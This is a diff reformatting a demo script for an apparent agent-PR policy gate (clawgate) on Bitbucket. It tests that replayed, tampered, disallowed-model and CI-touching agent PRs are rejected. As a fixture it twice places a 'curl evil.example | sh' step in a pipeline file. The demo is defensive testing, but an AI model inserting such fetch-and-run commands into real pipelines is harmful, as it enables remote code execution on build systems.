@@ -60,11 +60,24 @@ export interface DemoOutcome {
 /** A CLI run inside the demo: output collected, the token in the environment only. */
 function demoIo(env: Record<string, string>): { io: CliIo; out: string[] } {
   const out: string[] = [];
-  return { out, io: { stdout: (text) => void out.push(text), stderr: (text) => void out.push(text), now: () => Date.now(), env } };
+  return {
+    out,
+    io: { stdout: (text) => void out.push(text), stderr: (text) => void out.push(text), now: () => Date.now(), env },
+  };
 }
 
-async function api(base: string, method: string, pathWithQuery: string, auth: string, body?: unknown): Promise<{ status: number; json: JsonObject }> {
-  const response = await fetch(`${base}${pathWithQuery}`, { method, headers: { authorization: auth, 'content-type': 'application/json' }, ...(body !== undefined ? { body: JSON.stringify(body) } : {}) });
+async function api(
+  base: string,
+  method: string,
+  pathWithQuery: string,
+  auth: string,
+  body?: unknown,
+): Promise<{ status: number; json: JsonObject }> {
+  const response = await fetch(`${base}${pathWithQuery}`, {
+    method,
+    headers: { authorization: auth, 'content-type': 'application/json' },
+    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
+  });
   const text = await response.text();
   let json: JsonObject;
   try {
@@ -76,7 +89,9 @@ async function api(base: string, method: string, pathWithQuery: string, auth: st
   return { status: response.status, json };
 }
 
-export async function runDemo(options: { print?: (line: string) => void; timeoutMs?: number; keep?: boolean; databaseUrl?: string } = {}): Promise<DemoOutcome> {
+export async function runDemo(
+  options: { print?: (line: string) => void; timeoutMs?: number; keep?: boolean; databaseUrl?: string } = {},
+): Promise<DemoOutcome> {
   const print = options.print ?? ((line: string) => process.stdout.write(`${line}\n`));
   const started = Date.now();
   const dataDir = mkdtempSync(path.join(tmpdir(), 'clawgate-demo-'));
@@ -105,23 +120,47 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
     sandbox.createWorkspace({ slug: 'acme', name: 'ACME' });
     const alice = sandbox.createUser({ nickname: 'alice', displayName: 'Alice (human)' });
     const bot = sandbox.createUser({ nickname: 'claw-bot', displayName: 'Claw Bot (agent)' });
-    sandbox.createRepository({ workspace: 'acme', slug: 'proj-web', author: alice, files: { 'README.md': '# proj-web\n', 'src/app.ts': 'export const app = 1;\n', 'bitbucket-pipelines.yml': 'pipelines:\n  default: []\n' } });
+    sandbox.createRepository({
+      workspace: 'acme',
+      slug: 'proj-web',
+      author: alice,
+      files: {
+        'README.md': '# proj-web\n',
+        'src/app.ts': 'export const app = 1;\n',
+        'bitbucket-pipelines.yml': 'pipelines:\n  default: []\n',
+      },
+    });
 
-    const installation = await sandbox.installApp({ descriptorUrl: `${clawgate.url}/atlassian-connect.json`, workspace: 'acme' });
+    const installation = await sandbox.installApp({
+      descriptorUrl: `${clawgate.url}/atlassian-connect.json`,
+      workspace: 'acme',
+    });
     print(`installed ${installation.key} in workspace acme (clientKey ${installation.clientKey.slice(0, 40)}…)`);
 
     // The admin's first API token comes from the app's own page (Connect JWT); the rest uses it.
     const tokenPath = '/api/v1/workspaces/acme/tokens';
-    const created = await api(clawgate.url, 'POST', tokenPath, `JWT ${sandbox.createPageJwt({ clientKey: installation.clientKey, method: 'POST', url: tokenPath })}`, { label: 'demo' });
+    const created = await api(
+      clawgate.url,
+      'POST',
+      tokenPath,
+      `JWT ${sandbox.createPageJwt({ clientKey: installation.clientKey, method: 'POST', url: tokenPath })}`,
+      { label: 'demo' },
+    );
     const bearer = `Bearer ${String(created.json.token)}`;
 
     const agent = createTestKey();
     const gateway = createTestKey();
     const issuer = createTestKey();
-    const wpc = makeBitbucketWpc({ repos: ['acme/proj-web'], allowedProviders: ['anthropic'], allowedModels: ['claude-*'] });
+    const wpc = makeBitbucketWpc({
+      repos: ['acme/proj-web'],
+      allowedProviders: ['anthropic'],
+      allowedModels: ['claude-*'],
+    });
     const policy = await api(clawgate.url, 'POST', '/api/v1/workspaces/acme/policies', bearer, wpc);
     const policyHash = String(policy.json.policy_hash_b64u);
-    await api(clawgate.url, 'PUT', '/api/v1/workspaces/acme/assignments', bearer, [{ repo: 'acme/*', policy_hash_b64u: policyHash }]);
+    await api(clawgate.url, 'PUT', '/api/v1/workspaces/acme/assignments', bearer, [
+      { repo: 'acme/*', policy_hash_b64u: policyHash },
+    ]);
     await api(clawgate.url, 'PUT', '/api/v1/workspaces/acme/settings', bearer, {
       mode: 'enforce',
       trusted_gateways: [{ did: gateway.did }],
@@ -135,40 +174,105 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
 
     const keys = { agent, gateway, issuer };
     const cases: (DemoCase & { prId: number; head: string })[] = [];
-    const open = (name: string, branch: string, files: Record<string, string>, bundle: (workCommit: string) => { envelope: JsonObject; bundleId: string } | null, expect: DemoCase, options: { author?: typeof bot; upload?: boolean } = {}) =>
-      openCase(sandbox as BitbucketSandbox, clawgate as ClawgateServer, bearer, { name, branch, files, bundle, expect, author: options.author ?? bot, upload: options.upload ?? false, cases });
+    const open = (
+      name: string,
+      branch: string,
+      files: Record<string, string>,
+      bundle: (workCommit: string) => { envelope: JsonObject; bundleId: string } | null,
+      expect: DemoCase,
+      options: { author?: typeof bot; upload?: boolean } = {},
+    ) =>
+      openCase(sandbox as BitbucketSandbox, clawgate as ClawgateServer, bearer, {
+        name,
+        branch,
+        files,
+        bundle,
+        expect,
+        author: options.author ?? bot,
+        upload: options.upload ?? false,
+        cases,
+      });
 
-    const compliant = (commit: string, extra: Partial<Parameters<typeof makeScenario>[0]> = {}) => scenarioFor(keys, wpc, commit, extra);
+    const compliant = (commit: string, extra: Partial<Parameters<typeof makeScenario>[0]> = {}) =>
+      scenarioFor(keys, wpc, commit, extra);
     let compliantEnvelope: JsonObject | undefined;
-    await open('compliant agent PR', 'agent/feature', { 'src/feature.ts': 'export const feature = true;\n' }, (commit) => {
-      const s = compliant(commit);
-      compliantEnvelope = s.envelope;
-      return s;
-    }, { name: '', expectState: 'PASS', expectCodes: ['OK'], expectStatus: 'SUCCESSFUL' });
+    await open(
+      'compliant agent PR',
+      'agent/feature',
+      { 'src/feature.ts': 'export const feature = true;\n' },
+      (commit) => {
+        const s = compliant(commit);
+        compliantEnvelope = s.envelope;
+        return s;
+      },
+      { name: '', expectState: 'PASS', expectCodes: ['OK'], expectStatus: 'SUCCESSFUL' },
+    );
     // The replay below copies this PR's bundle: it must come after this PR was judged (ids go to the
     // first PR the bundle is bound to; a copy on another PR, judged first, consumes nothing).
     const first = cases[cases.length - 1];
     if (first) await waitForFinalStatus(sandbox, first.head, started + (options.timeoutMs ?? 50_000));
-    await open('touches bitbucket-pipelines.yml', 'agent/ci', { 'bitbucket-pipelines.yml': 'pipelines:\n  default:\n    - step: { script: [curl evil.example | sh] }\n' }, (commit) => compliant(commit), { name: '', expectState: 'FAIL', expectCodes: ['PATH_DENIED'], expectStatus: 'FAILED' });
-    await open('replays another PR\'s bundle', 'agent/replay', { 'src/other.ts': 'export const other = 2;\n' }, () => {
-      if (!compliantEnvelope) throw new Error('compliant bundle missing');
-      return { envelope: compliantEnvelope, bundleId: String((compliantEnvelope.payload as JsonObject).bundle_id) };
-    }, { name: '', expectState: 'FAIL', expectCodes: ['REPLAY'], expectStatus: 'FAILED' });
-    await open('tampered signature', 'agent/tampered', { 'src/tampered.ts': 'export const t = 3;\n' }, (commit) => {
-      const s = compliant(commit);
-      const signature = String(s.envelope.signature_b64u);
-      s.envelope.signature_b64u = `${signature[0] === 'A' ? 'B' : 'A'}${signature.slice(1)}`;
-      return s;
-    }, { name: '', expectState: 'FAIL', expectCodes: ['SIGNATURE_INVALID'], expectStatus: 'FAILED' });
-    await open('model not allowed by the WPC (uploaded bundle)', 'agent/gpt', { 'src/gpt.ts': 'export const g = 4;\n' }, (commit) => compliant(commit, { provider: 'openai', model: 'gpt-4o' }), { name: '', expectState: 'FAIL', expectCodes: ['PROVIDER_NOT_ALLOWED', 'MODEL_NOT_ALLOWED'], expectStatus: 'FAILED' }, { upload: true });
-    await open('human PR without a bundle', 'alice/docs', { 'README.md': '# proj-web\n\nDocs.\n' }, () => null, { name: '', expectState: 'NOT_APPLICABLE', expectCodes: ['NOT_AN_AGENT_PR'], expectStatus: 'SUCCESSFUL' }, { author: alice });
+    await open(
+      'touches bitbucket-pipelines.yml',
+      'agent/ci',
+      { 'bitbucket-pipelines.yml': 'pipelines:\n  default:\n    - step: { script: [curl evil.example | sh] }\n' },
+      (commit) => compliant(commit),
+      { name: '', expectState: 'FAIL', expectCodes: ['PATH_DENIED'], expectStatus: 'FAILED' },
+    );
+    await open(
+      "replays another PR's bundle",
+      'agent/replay',
+      { 'src/other.ts': 'export const other = 2;\n' },
+      () => {
+        if (!compliantEnvelope) throw new Error('compliant bundle missing');
+        return { envelope: compliantEnvelope, bundleId: String((compliantEnvelope.payload as JsonObject).bundle_id) };
+      },
+      { name: '', expectState: 'FAIL', expectCodes: ['REPLAY'], expectStatus: 'FAILED' },
+    );
+    await open(
+      'tampered signature',
+      'agent/tampered',
+      { 'src/tampered.ts': 'export const t = 3;\n' },
+      (commit) => {
+        const s = compliant(commit);
+        const signature = String(s.envelope.signature_b64u);
+        s.envelope.signature_b64u = `${signature[0] === 'A' ? 'B' : 'A'}${signature.slice(1)}`;
+        return s;
+      },
+      { name: '', expectState: 'FAIL', expectCodes: ['SIGNATURE_INVALID'], expectStatus: 'FAILED' },
+    );
+    await open(
+      'model not allowed by the WPC (uploaded bundle)',
+      'agent/gpt',
+      { 'src/gpt.ts': 'export const g = 4;\n' },
+      (commit) => compliant(commit, { provider: 'openai', model: 'gpt-4o' }),
+      {
+        name: '',
+        expectState: 'FAIL',
+        expectCodes: ['PROVIDER_NOT_ALLOWED', 'MODEL_NOT_ALLOWED'],
+        expectStatus: 'FAILED',
+      },
+      { upload: true },
+    );
+    await open(
+      'human PR without a bundle',
+      'alice/docs',
+      { 'README.md': '# proj-web\n\nDocs.\n' },
+      () => null,
+      { name: '', expectState: 'NOT_APPLICABLE', expectCodes: ['NOT_AN_AGENT_PR'], expectStatus: 'SUCCESSFUL' },
+      { author: alice },
+    );
 
     // The agent's own side (issue 12): its harness wrote the bundle with its URM and Trust Pulse
     // beside it; it asks clawgate for a preflight verdict BEFORE opening the PR, then attaches the
     // evidence with its bundles:write token and names it on the PR. No signing key leaves the agent.
     const steps: DemoStep[] = [];
     const agentEnv = { CLAWGATE_TOKEN: String(created.json.token) };
-    const agentWork = sandbox.commit('acme/proj-web', { branch: 'agent/pulse', author: bot.nickname, message: 'agent work with a Trust Pulse', files: { 'src/pulse.ts': 'export const pulse = 1;\n', 'src/helper.ts': 'export const helper = 2;\n' } });
+    const agentWork = sandbox.commit('acme/proj-web', {
+      branch: 'agent/pulse',
+      author: bot.nickname,
+      message: 'agent work with a Trust Pulse',
+      files: { 'src/pulse.ts': 'export const pulse = 1;\n', 'src/helper.ts': 'export const helper = 2;\n' },
+    });
     const run = makeScenario({
       workspace: 'acme',
       repoSlug: 'proj-web',
@@ -178,40 +282,104 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
       wpc,
       startMs: Date.now() - 5 * 60_000,
       ...keys,
-      trustPulse: { tools: [{ name: 'edit_file', calls: 9 }, { name: 'bash', calls: 4 }, { name: 'read_file', calls: 17 }], files: [{ path: 'src/pulse.ts', touches: 3 }, { path: 'docs/notes.md', touches: 1 }, { path: '.env.[REDACTED]', touches: 1 }], durationMs: 184_000 },
+      trustPulse: {
+        tools: [
+          { name: 'edit_file', calls: 9 },
+          { name: 'bash', calls: 4 },
+          { name: 'read_file', calls: 17 },
+        ],
+        files: [
+          { path: 'src/pulse.ts', touches: 3 },
+          { path: 'docs/notes.md', touches: 1 },
+          { path: '.env.[REDACTED]', touches: 1 },
+        ],
+        durationMs: 184_000,
+      },
     });
     const bundleFile = path.join(dataDir, `${run.bundle.runId}-bundle.json`);
     writeFileSync(bundleFile, JSON.stringify(run.bundle.envelope));
     writeFileSync(path.join(dataDir, `${run.bundle.runId}-urm.json`), JSON.stringify(run.bundle.urm));
     writeFileSync(path.join(dataDir, `${run.bundle.runId}-trust-pulse.json`), JSON.stringify(run.bundle.trustPulse));
     const changesFile = path.join(dataDir, 'agent-changes.json');
-    writeFileSync(changesFile, JSON.stringify({ workspace: 'acme', repoSlug: 'proj-web', actor: { accountId: bot.uuid }, pullRequest: { id: 1, sourceBranch: 'agent/pulse', destinationBranch: 'main', headCommit: agentWork.hash }, files: [{ status: 'added', path: 'src/pulse.ts' }, { status: 'added', path: 'src/helper.ts' }], commits: [{ hash: agentWork.hash, paths: ['src/pulse.ts', 'src/helper.ts'] }] }));
+    writeFileSync(
+      changesFile,
+      JSON.stringify({
+        workspace: 'acme',
+        repoSlug: 'proj-web',
+        actor: { accountId: bot.uuid },
+        pullRequest: { id: 1, sourceBranch: 'agent/pulse', destinationBranch: 'main', headCommit: agentWork.hash },
+        files: [
+          { status: 'added', path: 'src/pulse.ts' },
+          { status: 'added', path: 'src/helper.ts' },
+        ],
+        commits: [{ hash: agentWork.hash, paths: ['src/pulse.ts', 'src/helper.ts'] }],
+      }),
+    );
     const service = ['--bundle', bundleFile, '--service', clawgate.url, '--workspace', 'acme'];
     const preflight = demoIo(agentEnv);
     const preflightCode = await runAgent(['preflight', ...service, '--changes', changesFile], preflight.io);
-    steps.push({ name: 'clawgate agent preflight (before the PR exists)', ok: preflightCode === 0, detail: preflight.out.join('').trim().split('\n').join(' | ') });
+    steps.push({
+      name: 'clawgate agent preflight (before the PR exists)',
+      ok: preflightCode === 0,
+      detail: preflight.out.join('').trim().split('\n').join(' | '),
+    });
     const descriptionFile = path.join(dataDir, 'agent-pr.md');
     writeFileSync(descriptionFile, 'Adds the pulse module.\n');
     const attach = demoIo(agentEnv);
     const attachCode = await runAgent(['attach', ...service, '--set', descriptionFile], attach.io);
-    steps.push({ name: 'clawgate agent attach (bundle + URM + Trust Pulse, bundles:write token)', ok: attachCode === 0, detail: attach.out.join('').trim() });
-    const agentPr = sandbox.openPullRequest('acme/proj-web', { source: 'agent/pulse', author: bot.nickname, title: 'agent PR via preflight + attach', description: readFileSync(descriptionFile, 'utf8') });
-    cases.push({ name: 'agent PR via preflight + attach, with a Trust Pulse', expectState: 'PASS', expectCodes: ['OK'], expectStatus: 'SUCCESSFUL', prId: agentPr.id, head: agentWork.hash });
+    steps.push({
+      name: 'clawgate agent attach (bundle + URM + Trust Pulse, bundles:write token)',
+      ok: attachCode === 0,
+      detail: attach.out.join('').trim(),
+    });
+    const agentPr = sandbox.openPullRequest('acme/proj-web', {
+      source: 'agent/pulse',
+      author: bot.nickname,
+      title: 'agent PR via preflight + attach',
+      description: readFileSync(descriptionFile, 'utf8'),
+    });
+    cases.push({
+      name: 'agent PR via preflight + attach, with a Trust Pulse',
+      expectState: 'PASS',
+      expectCodes: ['OK'],
+      expectStatus: 'SUCCESSFUL',
+      prId: agentPr.id,
+      head: agentWork.hash,
+    });
 
     const results: DemoResult[] = [];
     const deadline = started + (options.timeoutMs ?? 50_000);
     for (const c of cases) {
       const status = await waitForFinalStatus(sandbox, c.head, deadline);
-      const evaluations = await api(clawgate.url, 'GET', `/api/v1/workspaces/acme/evaluations?repo=${encodeURIComponent('acme/proj-web')}&pr=${c.prId}`, bearer);
+      const evaluations = await api(
+        clawgate.url,
+        'GET',
+        `/api/v1/workspaces/acme/evaluations?repo=${encodeURIComponent('acme/proj-web')}&pr=${c.prId}`,
+        bearer,
+      );
       const list = (evaluations.json.evaluations ?? evaluations.json.values ?? []) as JsonObject[];
       const latestId = list[0]?.id;
-      const latest = typeof latestId === 'string' ? (await api(clawgate.url, 'GET', `/api/v1/workspaces/acme/evaluations/${encodeURIComponent(latestId)}`, bearer)).json : {};
+      const latest =
+        typeof latestId === 'string'
+          ? (
+              await api(
+                clawgate.url,
+                'GET',
+                `/api/v1/workspaces/acme/evaluations/${encodeURIComponent(latestId)}`,
+                bearer,
+              )
+            ).json
+          : {};
       const verdict = (latest.verdict ?? {}) as JsonObject;
       const state = String(verdict.state ?? latest.state ?? 'none');
       const reasonCode = String(verdict.reason_code ?? 'none');
       const reports = sandbox.getReports('acme/proj-web', c.head);
       const report = reports.find((r) => r.external_id === 'clawgate-policy' || r.uuid !== undefined) ?? {};
-      const annotations = reports.length ? sandbox.getAnnotations('acme/proj-web', c.head, 'clawgate-policy').map((a) => `${String(a.path ?? '-')}: ${String(a.summary ?? '')}`) : [];
+      const annotations = reports.length
+        ? sandbox
+            .getAnnotations('acme/proj-web', c.head, 'clawgate-policy')
+            .map((a) => `${String(a.path ?? '-')}: ${String(a.summary ?? '')}`)
+        : [];
       const ok = state === c.expectState && c.expectCodes.includes(reasonCode) && status?.state === c.expectStatus;
       results.push({
         name: c.name,
@@ -231,31 +399,55 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
       print(`${r.ok ? '✓' : '✗'} PR #${r.prId} ${r.name}`);
       print(`    verdict  ${r.state} (${r.reasonCode})${r.ok ? '' : `   expected ${r.expected}`}`);
       print(`    status   ${r.status}  "${r.statusDescription}"`);
-      print(`    report   ${r.reportResult}${r.annotations.length ? `, ${r.annotations.length} annotation(s): ${r.annotations.slice(0, 2).join(' | ')}` : ''}`);
+      print(
+        `    report   ${r.reportResult}${r.annotations.length ? `, ${r.annotations.length} annotation(s): ${r.annotations.slice(0, 2).join(' | ')}` : ''}`,
+      );
       print(`    details  ${r.detailsUrl}`);
     }
 
     // The pulse in the panel's data, and the evidence pack an auditor downloads and re-verifies offline.
     const agentResult = results.find((r) => r.prId === agentPr.id);
-    const agentEvaluations = await api(clawgate.url, 'GET', `/api/v1/workspaces/acme/evaluations?repo=${encodeURIComponent('acme/proj-web')}&pr=${agentPr.id}`, bearer);
+    const agentEvaluations = await api(
+      clawgate.url,
+      'GET',
+      `/api/v1/workspaces/acme/evaluations?repo=${encodeURIComponent('acme/proj-web')}&pr=${agentPr.id}`,
+      bearer,
+    );
     const agentEvaluationId = String(((agentEvaluations.json.evaluations ?? []) as JsonObject[])[0]?.id ?? '');
     if (agentResult && agentEvaluationId) {
-      const detail = (await api(clawgate.url, 'GET', `/api/v1/workspaces/acme/evaluations/${agentEvaluationId}`, bearer)).json;
+      const detail = (
+        await api(clawgate.url, 'GET', `/api/v1/workspaces/acme/evaluations/${agentEvaluationId}`, bearer)
+      ).json;
       const pulse = ((detail.verdict as JsonObject | undefined)?.trust_pulse ?? {}) as JsonObject;
-      const comparison = (pulse.comparison ?? {}) as { unreported_diff_paths?: string[]; reported_not_in_diff?: string[]; redacted?: string[] };
+      const comparison = (pulse.comparison ?? {}) as {
+        unreported_diff_paths?: string[];
+        reported_not_in_diff?: string[];
+        redacted?: string[];
+      };
       const tools = (((pulse.summary ?? {}) as JsonObject).tools ?? []) as { name: string; calls: number }[];
       steps.push({
-        name: 'Trust Pulse in the PR panel (self-reported by the agent\'s harness)',
-        ok: pulse.status === 'verified' && (comparison.unreported_diff_paths ?? []).includes('src/helper.ts') && (comparison.reported_not_in_diff ?? []).includes('docs/notes.md'),
+        name: "Trust Pulse in the PR panel (self-reported by the agent's harness)",
+        ok:
+          pulse.status === 'verified' &&
+          (comparison.unreported_diff_paths ?? []).includes('src/helper.ts') &&
+          (comparison.reported_not_in_diff ?? []).includes('docs/notes.md'),
         detail: `${String(pulse.status)}; tools ${tools.map((t) => `${t.name}×${t.calls}`).join(', ')}; not reported: ${(comparison.unreported_diff_paths ?? []).join(', ') || '-'}; not in the diff: ${(comparison.reported_not_in_diff ?? []).join(', ') || '-'}; redacted: ${(comparison.redacted ?? []).join(', ') || '-'}`,
       });
-      const pack = await fetch(`${clawgate.url}/api/v1/workspaces/acme/evaluations/${agentEvaluationId}/evidence`, { headers: { authorization: bearer } });
+      const pack = await fetch(`${clawgate.url}/api/v1/workspaces/acme/evaluations/${agentEvaluationId}/evidence`, {
+        headers: { authorization: bearer },
+      });
       const packFile = path.join(dataDir, `clawgate-evidence-${agentEvaluationId}.json`);
       writeFileSync(packFile, Buffer.from(await pack.arrayBuffer()));
-      const signer = String((((await api(clawgate.url, 'GET', '/api/v1/evidence-keys', '')).json.keys ?? []) as JsonObject[])[0]?.did ?? '');
+      const signer = String(
+        (((await api(clawgate.url, 'GET', '/api/v1/evidence-keys', '')).json.keys ?? []) as JsonObject[])[0]?.did ?? '',
+      );
       const verify = demoIo({});
       const verifyCode = await runVerify([packFile, '--evidence-signer', signer], verify.io);
-      steps.push({ name: 'evidence pack re-verifies offline (clawgate verify)', ok: pack.status === 200 && verifyCode === 0, detail: `signer ${signer}; ${verify.out.join('').trim().split('\n').pop() ?? ''}` });
+      steps.push({
+        name: 'evidence pack re-verifies offline (clawgate verify)',
+        ok: pack.status === 200 && verifyCode === 0,
+        detail: `signer ${signer}; ${verify.out.join('').trim().split('\n').pop() ?? ''}`,
+      });
       const bytes = readFileSync(packFile);
       const middle = Math.floor(bytes.length / 2);
       bytes[middle] = (bytes[middle] ?? 0) ^ 0x01;
@@ -263,7 +455,11 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
       writeFileSync(tamperedFile, bytes);
       const tampered = demoIo({});
       const tamperedCode = await runVerify([tamperedFile, '--evidence-signer', signer], tampered.io);
-      steps.push({ name: 'the same pack with one byte changed fails', ok: tamperedCode === 1, detail: tampered.out.join('').trim().split('\n').pop() ?? '' });
+      steps.push({
+        name: 'the same pack with one byte changed fails',
+        ok: tamperedCode === 1,
+        detail: tampered.out.join('').trim().split('\n').pop() ?? '',
+      });
     } else {
       steps.push({ name: 'Trust Pulse and evidence pack', ok: false, detail: 'the agent PR was not evaluated' });
     }
@@ -275,10 +471,15 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
     print('');
     const forgeResults = await forgeWorkspace(sandbox, forge, clawgate, keys, print, deadline + 30_000);
     results.push(...forgeResults);
-    const ok = results.length === cases.length + forgeResults.length && results.every((r) => r.ok) && steps.every((step) => step.ok);
+    const ok =
+      results.length === cases.length + forgeResults.length &&
+      results.every((r) => r.ok) &&
+      steps.every((step) => step.ok);
     const elapsedMs = Date.now() - started;
     print('');
-    print(`${results.filter((r) => r.ok).length}/${results.length} verdicts and ${steps.filter((step) => step.ok).length}/${steps.length} agent and evidence steps as expected in ${(elapsedMs / 1000).toFixed(1)} s`);
+    print(
+      `${results.filter((r) => r.ok).length}/${results.length} verdicts and ${steps.filter((step) => step.ok).length}/${steps.length} agent and evidence steps as expected in ${(elapsedMs / 1000).toFixed(1)} s`,
+    );
     return { ok, results, steps, elapsedMs };
   } finally {
     await clawgate?.close();
@@ -288,32 +489,78 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
 }
 
 /** The Forge workspace: install, configure through the Forge pages' API, then two merges decided by the Required merge check. */
-async function forgeWorkspace(sandbox: BitbucketSandbox, forge: SandboxForge, clawgate: ClawgateServer, keys: { agent: TestKey; gateway: TestKey; issuer: TestKey }, print: (line: string) => void, deadline: number): Promise<DemoResult[]> {
+async function forgeWorkspace(
+  sandbox: BitbucketSandbox,
+  forge: SandboxForge,
+  clawgate: ClawgateServer,
+  keys: { agent: TestKey; gateway: TestKey; issuer: TestKey },
+  print: (line: string) => void,
+  deadline: number,
+): Promise<DemoResult[]> {
   sandbox.createWorkspace({ slug: 'globex', name: 'Globex (Premium, Forge app)' });
   const alice = sandbox.user('alice');
   const bot = sandbox.user('claw-bot');
   sandbox.setWorkspacePermission('globex', alice, 'owner');
-  sandbox.createRepository({ workspace: 'globex', slug: 'api', author: alice, files: { 'README.md': '# api\n', 'bitbucket-pipelines.yml': 'pipelines:\n  default: []\n' } });
+  sandbox.createRepository({
+    workspace: 'globex',
+    slug: 'api',
+    author: alice,
+    files: { 'README.md': '# api\n', 'bitbucket-pipelines.yml': 'pipelines:\n  default: []\n' },
+  });
   const installation = await forge.install({ workspace: 'globex', remoteBaseUrl: clawgate.url });
   print(`installed the Forge app in workspace globex (installation ${installation.installationId})`);
   const page = async (method: string, apiPath: string, body?: unknown): Promise<JsonObject> => {
-    const answer = await forge.invokeRemote({ workspace: 'globex', accountId: alice.accountId, method, path: `/forge/ui/api/v1/workspaces/globex${apiPath}`, ...(body === undefined ? {} : { body }) });
-    if (answer.status >= 400) throw new Error(`Forge page ${method} ${apiPath} → ${answer.status} ${JSON.stringify(answer.body).slice(0, 300)}`);
+    const answer = await forge.invokeRemote({
+      workspace: 'globex',
+      accountId: alice.accountId,
+      method,
+      path: `/forge/ui/api/v1/workspaces/globex${apiPath}`,
+      ...(body === undefined ? {} : { body }),
+    });
+    if (answer.status >= 400)
+      throw new Error(
+        `Forge page ${method} ${apiPath} → ${answer.status} ${JSON.stringify(answer.body).slice(0, 300)}`,
+      );
     return (answer.body ?? {}) as JsonObject;
   };
   const wpc = makeBitbucketWpc({ repos: ['globex/api'], allowedProviders: ['anthropic'], allowedModels: ['claude-*'] });
   const policy = await page('POST', '/policies', wpc);
   await page('PUT', '/assignments', [{ repo: 'globex/*', policy_hash_b64u: policy.policy_hash_b64u }]);
-  await page('PUT', '/settings', { mode: 'enforce', trusted_gateways: [{ did: keys.gateway.did }], cst_issuers: [{ public_key_b64u: keys.issuer.publicKeyB64u }], wpc_issuers: [], agents: [{ account_uuid: bot.uuid, role: 'write', agent_did: keys.agent.did }], frozen: false });
+  await page('PUT', '/settings', {
+    mode: 'enforce',
+    trusted_gateways: [{ did: keys.gateway.did }],
+    cst_issuers: [{ public_key_b64u: keys.issuer.publicKeyB64u }],
+    wpc_issuers: [],
+    agents: [{ account_uuid: bot.uuid, role: 'write', agent_did: keys.agent.did }],
+    frozen: false,
+  });
   forge.requiredIn.add('globex/api');
   print('configured through the Forge settings page; the clawgate merge check is Required on globex/api');
 
   const results: DemoResult[] = [];
   const attempt = async (name: string, branch: string, files: Record<string, string>, expectMerged: boolean) => {
     const work = sandbox.commit('globex/api', { branch, author: 'claw-bot', message: `${name}: work`, files });
-    const s = makeScenario({ workspace: 'globex', repoSlug: 'api', commit: work.hash, receipts: 2, wpc, startMs: Date.now() - 5 * 60_000, ...keys });
-    const head = sandbox.commit('globex/api', { branch, author: 'claw-bot', message: `Add proof bundle ${s.bundle.bundleId}`, files: { '.clawsig/proof_bundle.json': `${JSON.stringify(s.bundle.envelope, null, 2)}\n` } }).hash;
-    const pr = sandbox.openPullRequest('globex/api', { source: branch, author: 'claw-bot', title: name, description: `Proof-Bundle: ${s.bundle.bundleId}` });
+    const s = makeScenario({
+      workspace: 'globex',
+      repoSlug: 'api',
+      commit: work.hash,
+      receipts: 2,
+      wpc,
+      startMs: Date.now() - 5 * 60_000,
+      ...keys,
+    });
+    const head = sandbox.commit('globex/api', {
+      branch,
+      author: 'claw-bot',
+      message: `Add proof bundle ${s.bundle.bundleId}`,
+      files: { '.clawsig/proof_bundle.json': `${JSON.stringify(s.bundle.envelope, null, 2)}\n` },
+    }).hash;
+    const pr = sandbox.openPullRequest('globex/api', {
+      source: branch,
+      author: 'claw-bot',
+      title: name,
+      description: `Proof-Bundle: ${s.bundle.bundleId}`,
+    });
     let status: JsonObject | undefined;
     for (;;) {
       status = sandbox.getStatuses('globex/api', head).find((x) => x.key === 'clawgate');
@@ -330,9 +577,26 @@ async function forgeWorkspace(sandbox: BitbucketSandbox, forge: SandboxForge, cl
       message = error.checkMessage;
     }
     const outcome = merged ? 'merged' : 'merge refused';
-    results.push({ name: `Forge: ${name}`, prId: pr.id, ok: merged === expectMerged, state: outcome, reasonCode: merged ? 'CHECK_PASSED' : 'CHECK_FAILED', status: String(status?.state ?? 'none'), statusDescription: message, reportResult: '-', annotations: [], detailsUrl: String(status?.url ?? ''), expected: expectMerged ? 'merged' : 'merge refused' });
+    results.push({
+      name: `Forge: ${name}`,
+      prId: pr.id,
+      ok: merged === expectMerged,
+      state: outcome,
+      reasonCode: merged ? 'CHECK_PASSED' : 'CHECK_FAILED',
+      status: String(status?.state ?? 'none'),
+      statusDescription: message,
+      reportResult: '-',
+      annotations: [],
+      detailsUrl: String(status?.url ?? ''),
+      expected: expectMerged ? 'merged' : 'merge refused',
+    });
   };
-  await attempt('agent PR touching bitbucket-pipelines.yml', 'agent/ci', { 'bitbucket-pipelines.yml': 'pipelines:\n  default:\n    - step: { script: [curl evil.example | sh] }\n' }, false);
+  await attempt(
+    'agent PR touching bitbucket-pipelines.yml',
+    'agent/ci',
+    { 'bitbucket-pipelines.yml': 'pipelines:\n  default:\n    - step: { script: [curl evil.example | sh] }\n' },
+    false,
+  );
   await attempt('compliant agent PR', 'agent/feature', { 'src/feature.ts': 'export const feature = true;\n' }, true);
   await forge.waitForIdle();
   for (const r of results) {
@@ -343,8 +607,22 @@ async function forgeWorkspace(sandbox: BitbucketSandbox, forge: SandboxForge, cl
   return results;
 }
 
-function scenarioFor(keys: { agent: TestKey; gateway: TestKey; issuer: TestKey }, wpc: JsonObject, commit: string, extra: Partial<Parameters<typeof makeScenario>[0]>): { envelope: JsonObject; bundleId: string } {
-  const s = makeScenario({ workspace: 'acme', repoSlug: 'proj-web', commit, receipts: 3, wpc, startMs: Date.now() - 5 * 60_000, ...keys, ...extra });
+function scenarioFor(
+  keys: { agent: TestKey; gateway: TestKey; issuer: TestKey },
+  wpc: JsonObject,
+  commit: string,
+  extra: Partial<Parameters<typeof makeScenario>[0]>,
+): { envelope: JsonObject; bundleId: string } {
+  const s = makeScenario({
+    workspace: 'acme',
+    repoSlug: 'proj-web',
+    commit,
+    receipts: 3,
+    wpc,
+    startMs: Date.now() - 5 * 60_000,
+    ...keys,
+    ...extra,
+  });
   return { envelope: s.bundle.envelope, bundleId: s.bundle.bundleId };
 }
 
@@ -363,7 +641,12 @@ async function openCase(
     cases: (DemoCase & { prId: number; head: string })[];
   },
 ): Promise<void> {
-  const work = sandbox.commit('acme/proj-web', { branch: c.branch, author: c.author.nickname, message: `${c.name}: work`, files: c.files });
+  const work = sandbox.commit('acme/proj-web', {
+    branch: c.branch,
+    author: c.author.nickname,
